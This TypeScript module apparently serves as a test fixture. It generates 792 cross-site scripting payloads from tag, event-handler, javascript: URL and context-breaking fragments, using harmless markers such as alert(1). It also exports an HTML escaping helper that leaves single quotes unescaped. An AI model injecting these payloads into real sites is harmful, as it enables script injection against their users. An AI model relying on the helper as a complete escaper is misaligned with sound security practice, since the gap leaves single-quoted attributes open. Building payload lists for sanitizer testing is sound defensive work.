const CORES = [
  '<img src=x onerror=PWN>',
  '<svg onload=PWN>',
  '<script>PWN</script>',
  '<iframe srcdoc="<script>parent.PWN</script>"></iframe>',
  '<details open ontoggle=PWN>',
  '<input autofocus onfocus=PWN>',
  '<a href="javascript:PWN">press</a>',
  '<math><mtext><style><img src onerror=PWN>',
  '<template><script>PWN</script></template>',
  '<object data="javascript:PWN"></object>',
  '<body onload=PWN>',
  '<video><source onerror=PWN></video>',
  '<style>@import"javascript:PWN"</style>',
  '<base href="javascript:PWN//">',
  '<meta http-equiv=refresh content="0;url=javascript:PWN">',
  '<form action=javascript:PWN><button autofocus>',
  '<x contenteditable onblur=PWN>',
  'javascript:PWN',
  'data:text/html,<script>PWN</script>',
  '$'.concat('{PWN}{{PWN}}'),
  '__proto__[x]=PWN',
  "');PWN;('",
];
const BREAKS = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '-->',
  ']]>',
  '\u2028',
  '&lt;',
];
const PWNED = ['alert(1)', 'window.__pwned=1', 'console.log(`pwned`)'];

/** 792 strings that run a script if they are taken for markup, an address or code. */
export const PAYLOADS: readonly string[] = CORES.flatMap((core) =>
  BREAKS.flatMap((start) => PWNED.map((code) => start + core.replaceAll('PWN', code))),
);

/** Markup as text in a page. */
export function escaped(text: string): string {
  return text
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
    .replaceAll('"', '&quot;');
}
